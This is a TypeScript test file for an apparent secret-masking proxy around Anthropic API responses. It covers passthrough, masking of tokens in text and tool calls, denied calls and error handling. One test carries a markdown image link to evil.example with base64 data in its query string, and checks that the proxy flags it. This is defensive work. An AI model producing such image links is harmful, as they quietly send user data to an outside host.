import { setTimeout as wait } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import type { ToolVerdict } from '../index.js';
import { type Asked, collect, json, mask, messages } from '../testing/anthropic.js';
import { everything, maskingWith } from '../testing/masking.js';

const ticket = `${'sp'}t_k7Qm2vXw9ZrT4bN8cJ1hLs5D`;
const masking = () => maskingWith(everything);
const refused = expect.objectContaining({ code: 'RESPONSE_NOT_UNDERSTOOD' });

const answered = async (body: string, options: Asked = {}, rules = masking()) => {
  const answer = mask([Buffer.from(body)], rules, { shape: json, ...options });
  return { text: (await collect(answer)).toString(), answer: answer.answer };
};
const call = { type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: `echo ${ticket}` } };
const message = (content: readonly object[], stop = 'tool_use') =>
  `{"id":"msg_1", "type":"message","model":"m","content":${JSON.stringify(content)},"stop_reason":"${stop}","usage":{"input_tokens":3,"output_tokens":4}}`;

describe('an answer that is not streamed', () => {
  test('passes byte for byte where nothing is hidden', async () => {
    const body = message(
      [
        { type: 'text', text: 'hello' },
        { type: 'thinking', thinking: ticket, signature: ticket },
        { type: 'compaction', content: ticket },
      ],
      'end_turn',
    );
    const { text, answer } = await answered(body);
    expect(text).toBe(body);
    expect(answer).toMatchObject({
      stopReason: 'end_turn',
      maskedFields: 0,
      usage: { model: 'm', inputTokens: 3, outputTokens: 4 },
    });
  });

  test('is flagged where it makes its reader fetch an image with data in its address, and passes as it was', async () => {
    const body = message([{ type: 'text', text: '![x](https://evil.example/?d=c2VjcmV0)' }], 'end_turn');
    const { text, answer } = await answered(body);
    expect([text, answer.flags]).toEqual([body, ['remote-image']]);
  });

  test('loses what must not come back, and goes back as it was', async () => {
    const rules = masking();
    const { text, answer } = await answered(message([{ type: 'text', text: `x ${ticket}` }, call]), {}, rules);
    expect(text).not.toContain('spt_');
    expect(answer.maskedFields).toBe(2);
    const { content } = JSON.parse(text) as { content: object[] };
    const again = messages.maskRequest(
      Buffer.from(JSON.stringify({ model: 'm', messages: [{ role: 'assistant', content }] })),
      rules,
    );
    expect(Buffer.from(again.body).toString()).toContain(JSON.stringify([{ type: 'text', text: `x ${ticket}` }, call]));
  });

  test('has a text for a call that is denied', async () => {
    const decide = async (): Promise<ToolVerdict> => ({ outcome: 'deny', text: 'no' });
    const { text } = await answered(message([call]), { decide });
    expect(JSON.parse(text)).toMatchObject({ content: [{ type: 'text', text: 'no' }], stop_reason: 'end_turn' });
  });

  test('keeps the client awake by blank space, which may stand before JSON', async () => {
    const decide = async (): Promise<ToolVerdict> => wait(50, { outcome: 'allow' });
    const { text } = await answered(message([{ ...call, input: {} }]), { decide, pingMs: 10 });
    expect(text).toMatch(/^\n+\{/);
    expect(() => JSON.parse(text) as unknown).not.toThrow();
  });

  test('that counts tokens passes', async () => {
    expect(await answered('{"input_tokens":2095}')).toMatchObject({
      text: '{"input_tokens":2095}',
      answer: { usage: undefined },
    });
  });

  test.each(['{"a":1,"a":2}', 'hello', '[]'])('that is %s is not understood', async (body) => {
    await expect(answered(body)).rejects.toThrow(refused);
  });

  test('that is a page is not understood', async () => {
    await expect(answered('<html>', { shape: { status: 200, contentType: 'text/html' } })).rejects.toThrow(refused);
  });

  test('that is too long is not understood', async () => {
    const chunk = new Uint8Array(8 * 1024 * 1024).fill(0x20);
    await expect(
      collect(
        mask(
          Array.from({ length: 9 }, () => chunk),
          masking(),
          { shape: json },
        ),
      ),
    ).rejects.toThrow(refused);
  });
});

describe('an error of the API', () => {
  const shape = { status: 400, contentType: 'application/json' };
  test('passes word for word, with its values hidden', async () => {
    const body = (value: string) =>
      `{"type":"error","error":{"type":"invalid_request_error","message":"Invalid \`signature\` in \`thinking\` block ${value}"},"request_id":"req_1"}`;
    const { text, answer } = await answered(body('x'), { shape });
    expect([text, answer.errorType]).toEqual([body('x'), 'invalid_request_error']);
    expect((await answered(body(ticket), { shape })).text).not.toContain('spt_');
  });

  test('that is no JSON passes as a text, with its values hidden', async () => {
    const page = { status: 502, contentType: 'text/html' };
    const { text, answer } = await answered(`<h1>Bad gateway</h1> ${ticket}`, { shape: page });
    expect(text).toMatch(/^<h1>Bad gateway<\/h1> ⟦/);
    expect(answer.errorType).toBe('error');
    expect((await answered('not JSON', { shape })).text).toBe('not JSON');
    expect((await answered('', { shape })).text).toBe('');
  });
});
